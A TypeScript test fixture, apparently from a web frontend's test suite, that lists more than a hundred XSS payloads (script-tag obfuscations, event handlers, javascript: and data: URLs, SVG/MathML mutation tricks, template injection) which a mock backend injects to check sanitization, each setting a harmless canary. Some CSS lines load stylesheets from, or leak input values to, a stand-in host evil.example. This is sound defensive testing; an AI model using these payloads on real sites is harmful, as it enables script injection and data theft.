/**
 * XSS payloads placed by the mock in every string the backend sends (issue 11). Each one, if it ever
 * ran, would set the global canary `window.__xss` (directly, through `alert`, which the suite
 * replaces with a canary setter, or through `top`/`parent`). Grouped by technique; sources: the
 * OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, DOMPurify's own test suite
 * (mXSS, namespace confusion), and template-injection strings for Lit/Angular/Vue-style engines.
 */
const C = 'window.__xss=1';

/** Classic script tags and their obfuscations. */
const scripts = [
  `<script>${C}</script>`,
  `<SCRIPT>${C}</SCRIPT>`,
  `<script type="text/javascript">${C}</script>`,
  `<script type="module">${C}</script>`,
  `<script src="data:text/javascript,${C}"></script>`,
  `<script>/*</script><script>*/${C}</script>`,
  `<scr<script>ipt>${C}</scr</script>ipt>`,
  `<<script>${C};//<</script>`,
  `<script\x20type="text/javascript">${C}</script>`,
  `<script\x0dtype="text/javascript">${C}</script>`,
  `<script/src="data:,${C}"></script>`,
  `<script>eval(atob('d2luZG93Ll9feHNzPTE='))</script>`,
  `<noscript><p title="</noscript><script>${C}</script>">`,
  `</title><script>${C}</script>`,
  `</textarea><script>${C}</script>`,
  `</style><script>${C}</script>`,
  `<!--<script>-->${C}<!--</script>-->`,
  `<![CDATA[<script>${C}</script>]]>`,
];

/** Event handlers on every kind of element. */
const handlers = [
  `<img src=x onerror="${C}">`,
  `<img src=x onerror=${C}>`,
  `<IMG SRC=x ONERROR=${C}>`,
  `<img src="x" onerror="&#119;indow.__xss=1">`,
  `<img src=x onerror="&#x77;indow.__xss=1">`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<img/src/onerror=${C}>`,
  `<img src=x onerror\x0b=${C}>`,
  `<svg onload=${C}>`,
  `<svg/onload=${C}>`,
  `<body onload=${C}>`,
  `<iframe onload=${C}></iframe>`,
  `<input autofocus onfocus=${C}>`,
  `<select autofocus onfocus=${C}></select>`,
  `<textarea autofocus onfocus=${C}></textarea>`,
  `<keygen autofocus onfocus=${C}>`,
  `<details open ontoggle=${C}>`,
  `<video><source onerror=${C}></video>`,
  `<audio src=x onerror=${C}>`,
  `<marquee onstart=${C}>`,
  `<div onmouseover="${C}">passa qui</div>`,
  `<a onclick="${C}" href="#">clicca</a>`,
  `<button onclick="${C}">Invia</button>`,
  `<form><button formaction="javascript:${C}">x</button></form>`,
  `<object data=x onerror=${C}></object>`,
  `<style onload=${C}></style>`,
  `<link rel=stylesheet href=x onerror=${C}>`,
  `<div popover id=p onbeforetoggle=${C}>x</div>`,
  `<p onanimationstart=${C} style="animation:spin 1s">x</p>`,
  `<x contenteditable onblur=${C}>x</x>`,
  `<img src=x onerror="top.__xss=1">`,
  `<img src=x onerror="parent.__xss=1">`,
  `<img src=x onerror="alert(1)">`,
  `<img src=x onerror="window['__x'+'ss']=1">`,
];

/** `javascript:` and friends in URL attributes. */
const urls = [
  `<a href="javascript:${C}">Scarica</a>`,
  `<a href="JaVaScRiPt:${C}">Scarica</a>`,
  `<a href=" javascript:${C}">Scarica</a>`,
  `<a href="java&#x09;script:${C}">Scarica</a>`,
  `<a href="java\tscript:${C}">Scarica</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${C}">Scarica</a>`,
  `<a href="vbscript:msgbox(1)">Scarica</a>`,
  `<a href="data:text/html,<script>${C}</script>">Scarica</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">Scarica</a>`,
  `<iframe src="javascript:${C}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<embed src="javascript:${C}">`,
  `<object data="javascript:${C}"></object>`,
  `<form action="javascript:${C}"><input type=submit></form>`,
  `<base href="javascript:${C}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${C}">`,
  `<isindex action="javascript:${C}" type=image>`,
  `<a href="#" xlink:href="javascript:${C}">x</a>`,
  `javascript:${C}`,
  `JAVASCRIPT:${C}//`,
];

/** SVG and MathML namespace tricks (mXSS). */
const svgMath = [
  `<svg><script>${C}</script></svg>`,
  `<svg><a xlink:href="javascript:${C}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><animate onbegin=${C} attributeName=x dur=1s>`,
  `<svg><set attributeName="onload" to="${C}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${C}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${C}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${C}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${C}></style></mglyph></table></mtext></math>`,
  `<math><mi xlink:href="javascript:${C}">x</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${C}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${C}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${C}>">`,
  `<noscript><style></noscript><img src=x onerror=${C}>`,
  `<template><img src=x onerror=${C}></template>`,
  `<svg><desc><img src=x onerror=${C}></desc></svg>`,
];

/** CSS injection: restyling the host page, exfiltration through url(), legacy expression(). */
const css = [
  `<style>body{display:none}</style>`,
  `<style>@import url("https://evil.example/x.css");</style>`,
  `<style>*{background:url("javascript:${C}")}</style>`,
  `<div style="background:url(javascript:${C})">x</div>`,
  `<div style="width:expression(${C})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">sovrapposizione</div>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>input[value^="a"]{background:url(https://evil.example/a)}</style>`,
  `</style><style>body{background:red}</style>`,
];

/** Breaking out of attributes, tags and text contexts. */
const breakouts = [
  `"><script>${C}</script>`,
  `'><script>${C}</script>`,
  `" onmouseover="${C}`,
  `' onfocus='${C}' autofocus='`,
  `" autofocus onfocus="${C}" x="`,
  `"><img src=x onerror=${C}>`,
  `</p><img src=x onerror=${C}><p>`,
  `</td></tr></table><img src=x onerror=${C}>`,
  `</option></select><img src=x onerror=${C}>`,
  `</label><img src=x onerror=${C}>`,
  `--><img src=x onerror=${C}><!--`,
  `]]><img src=x onerror=${C}>`,
  `\\"><img src=x onerror=${C}>`,
  `%3Cscript%3E${C}%3C/script%3E`,
  `&lt;script&gt;${C}&lt;/script&gt;`,
  `\u003cimg src=x onerror=${C}\u003e`,
  `<img src="x` + '`' + `onerror=${C}` + '`' + `>`,
];

/** Template-literal and client-side template injection. */
const templates = [
  '${' + C + '}',
  '`${' + C + '}`',
  '{{constructor.constructor("' + C + '")()}}',
  '{{$on.constructor("' + C + '")()}}',
  '<div v-html="\'<img src=x onerror=' + C + '>\'"></div>',
  '<!--?lit$123456789$--><img src=x onerror=' + C + '>',
  '<?lit$0$><img src=x onerror=' + C + '>',
  '#{' + C + '}',
  '<%= ' + C + ' %>',
  '[[${' + C + '}]]',
];

/** Oddities: null bytes, unicode, huge nesting. */
const oddities = [
  `<img src=x\0 onerror=${C}>`,
  `<scr\0ipt>${C}</scr\0ipt>`,
  `<a href="jav&#x0A;ascript:${C}">x</a>`,
  `<a href="\u0001javascript:${C}">x</a>`,
  `<IMG """><SCRIPT>${C}</SCRIPT>">`,
  `${'<div>'.repeat(200)}<img src=x onerror=${C}>${'</div>'.repeat(200)}`,
  `\u202e<img src=x onerror=${C}>`,
  `<img src=x onerror=${C}//\u2028>`,
];

export const XSS_PAYLOADS: readonly string[] = [
  ...scripts, ...handlers, ...urls, ...svgMath, ...css, ...breakouts, ...templates, ...oddities,
];

/** URL-only payloads: what the backend could put where a link is expected (`call_to_actions`, links). */
export const XSS_URLS: readonly string[] = [
  `javascript:${C}`,
  `JavaScript:${C}//`,
  ` javascript:${C}`,
  `java\tscript:${C}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${C}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
];

/** A harmless word that survives sanitization: proves the poisoned strings reached the page. */
export const PROBE = 'sondaxss';

/** `count` payloads per batch, each batch prefixed by the probe. */
export function batches(size: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < XSS_PAYLOADS.length; i += size) out.push(`${PROBE} ${XSS_PAYLOADS.slice(i, i + size).join(' ')}`);
  return out;
}
